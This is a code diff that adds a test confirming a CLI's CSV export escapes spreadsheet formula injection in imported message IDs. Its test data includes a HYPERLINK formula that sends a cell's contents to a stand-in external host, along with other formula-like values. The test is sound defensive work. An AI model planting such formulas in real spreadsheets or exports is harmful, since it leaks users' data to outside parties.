@@ -48,6 +48,16 @@ def test_every_command_explains_itself(app: Flask, run: Run) -> None:
         assert "Usage:" in result.output
 
 
+def test_an_id_from_outside_is_no_formula_in_an_export(run: Run, campaign: int, tmp_path: Path) -> None:
+    assert campaign
+    ids = ['=HYPERLINK("http://e.example/?x="&A2,"open")', "@SUM(A1)", "-2+3", "<1@mail.example>", "-5"]
+    file = write_csv(tmp_path / "in.csv", ["id", "text"], [[each, "no water"] for each in ids])
+    assert counts(run("messages", "import", file, "--channel", "phone"))["added"] == len(ids)
+    assert run("messages", "export", "-o", tmp_path / "out.csv").exit_code == 0
+    found = [row["external_id"] for row in read_csv(tmp_path / "out.csv")]
+    assert found == [f"'{ids[0]}", f"'{ids[1]}", f"'{ids[2]}", *ids[3:]]
+
+
 def test_importing_twice_adds_nothing_and_status_adds_up(run: Run, campaign: int, tmp_path: Path) -> None:
     assert campaign
     rows = [
